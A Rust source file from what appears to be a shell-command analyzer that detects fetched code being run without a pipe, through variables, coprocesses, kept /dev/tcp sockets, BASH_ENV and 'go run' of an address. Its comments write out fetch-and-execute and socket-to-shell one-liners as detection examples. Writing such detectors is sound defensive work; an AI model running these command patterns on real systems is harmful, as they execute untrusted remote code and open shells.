//! Is code from elsewhere run without a pipe: from a variable, a coprocess, an address?

use std::collections::{BTreeSet, HashMap};

use tenterhook_shell::{Target, Via, WordKind};

use super::super::hosts;
use super::super::view::View;
use super::table::FETCHING;
use super::{Kinds, brings, inside, is_language, is_shell, runs_input, takes_code};

impl Kinds {
    /// `x=$(curl ...); bash -c "$x"`: what was fetched stands in a variable.
    pub(super) fn variables(&mut self, views: &[View<'_>]) {
        let mut fetched: HashMap<&str, BTreeSet<&'static str>> = HashMap::new();
        for view in views {
            let words = view.command.words.iter().skip(1);
            let code = words.filter(|_| takes_code(view) || is_language(&view.name));
            for word in code.filter(|it| it.kind == WordKind::Expansion && !fetched.is_empty()) {
                for part in word.source.split('$').skip(1) {
                    let part = part.trim_start_matches('{');
                    let end = part.find(|c: char| c != '_' && !c.is_ascii_alphanumeric());
                    let name = part.get(..end.unwrap_or(part.len())).unwrap_or_default();
                    self.0.extend(fetched.get(name).into_iter().flatten());
                }
            }
            let substitutes = |source: &str| source.contains("$(") || source.contains('`');
            for it in view.command.assignments.iter().filter(|it| substitutes(&it.value.source)) {
                if view.meter.read(4 * it.value.source.len()) {
                    let brought = inside(&it.value.source, view.meter);
                    fetched.entry(it.name.as_str()).or_default().extend(brought);
                }
            }
        }
    }

    /// `exec 5<>/dev/tcp/host/99; cat <&5 | sh`: an end of a connection that the line keeps, and a shell that is fed.
    fn kept_socket(&mut self, views: &[View<'_>]) {
        let keeps = |it: &View<'_>| {
            let sockets = it
                .redirects
                .iter()
                .filter(|(_, file)| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/"));
            it.command.program() == Some("exec") && sockets.count() > 0
        };
        let is_fed = |it: &View<'_>| {
            let duplicates = |it: &tenterhook_shell::Redirect| it.operator == "<&";
            runs_input(it) && (it.feeds() || it.command.redirects.iter().any(duplicates))
        };
        if views.iter().any(keeps) && views.iter().any(is_fed) {
            self.add("downloaded");
        }
    }

    /// `coproc curl ...; bash <&${COPROC[0]}`, and `go run https://...`: code that is fetched and run without a pipe.
    pub(super) fn direct(&mut self, views: &[View<'_>]) {
        let coprocess = |it: &View<'_>| it.command.via.contains(&Via::Wrapper("coproc"));
        let fed = |it: &View<'_>| {
            it.command.redirects.iter().any(|it| match &it.target {
                Target::Word(word) => {
                    it.operator.starts_with('<') && word.source.contains("COPROC")
                }
                Target::HereDocument { .. } | Target::Closed => false,
            })
        };
        let runs = views.iter().any(|it| (is_shell(&it.name) || is_language(&it.name)) && fed(it));
        if runs && views.iter().any(|it| coprocess(it) && brings(it) == Some("downloaded")) {
            self.add("downloaded");
        }
        self.kept_socket(views);
        for view in views {
            // `BASH_ENV=<(curl ...) bash`
            let started =
                view.command.assignments.iter().filter(|it| STARTED.contains(&it.name.as_str()));
            started.for_each(|it| self.add_inside(&it.value.source, view.meter));
            let operands = view.operands(&[]);
            let mut operands = operands.iter().copied();
            let verb = FETCHING.iter().find(|(name, _)| *name == view.name).map(|(_, verb)| *verb);
            let told = verb.is_some_and(|verb| verb.is_empty() || operands.next() == Some(verb));
            if told && operands.next().is_some_and(is_address) {
                self.add("downloaded");
            }
        }
    }
}

/// Variables that name what a shell runs when it starts or prompts.
const STARTED: &[&str] = &["BASH_ENV", "ENV", "PROMPT_COMMAND"];

/// Whether a word is an address, and not code in which one stands: `node -e "fetch('http://localhost/')"` runs no answer.
fn is_address(word: &str) -> bool {
    let scheme = word.split("://").next().unwrap_or_default();
    scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
        && hosts::of_address(word).is_some()
}

/// Options of `make` that name its recipes.
const RECIPES: &[&str] = &["-f", "--file", "--makefile"];

/// Whether `make` finds its recipes on its input: `make -f -`.
pub(super) fn makes_input(view: &View<'_>) -> bool {
    // The reader may have lost a dash behind the option, and without one nothing is made.
    let bare = view.args.last().is_some_and(|it| RECIPES.contains(&it.as_str()));
    bare || view.values(RECIPES).iter().any(|it| ["-", "/dev/stdin"].contains(it))
}
